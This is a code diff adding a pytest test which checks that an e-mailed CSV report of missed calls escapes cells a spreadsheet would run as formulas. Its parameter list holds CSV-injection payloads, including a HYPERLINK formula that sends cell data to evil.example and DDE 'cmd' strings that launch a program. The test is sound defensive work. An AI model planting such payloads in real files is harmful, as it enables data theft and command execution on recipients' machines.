@@ -480,3 +480,21 @@ def test_settings_read_lists_from_the_environment() -> None:
     )
     assert loaded.report_email_to == ("a@x.test", "b@x.test")
     assert loaded.report_working_days[-1] == "sat"
+
+
+@pytest.mark.parametrize("hostile", ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0",
+                                     "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
+                                     "\t=1+1", "\r=1+1"])
+def test_csv_cells_that_a_spreadsheet_would_run_are_escaped(hostile: str) -> None:
+    """A caller's name, line or ad source is written by others; the e-mailed CSV must not run it."""
+    at = datetime(2025, 10, 9, 9, 53, 15, tzinfo=timezone.utc)
+    row = MissedRow(hostile, 7, hostile, "106", hostile, 1, at, at, hostile, hostile, False)
+    report = MissedReport(window=WINDOW, tz=MOSCOW, include_called_back=True, rows=(row,))
+    (parsed,) = list(csv.DictReader(io.StringIO(RENDERERS["csv"](report))))
+    for column in ("phone", "contact_name", "responsible_name", "line_number", "ad_source"):
+        assert parsed[column] == "'" + hostile, column
+    # Numbers stay numbers: a phone in E.164 starts with "+" and is no formula.
+    plain = MissedRow("+79161234567", 8, "-", "105", None, 1, at, at, "+74951234567", None, False)
+    (kept,) = list(csv.DictReader(io.StringIO(RENDERERS["csv"](
+        MissedReport(window=WINDOW, tz=MOSCOW, include_called_back=True, rows=(plain,))))))
+    assert (kept["phone"], kept["line_number"], kept["contact_name"]) == ("+79161234567", "+74951234567", "'-")
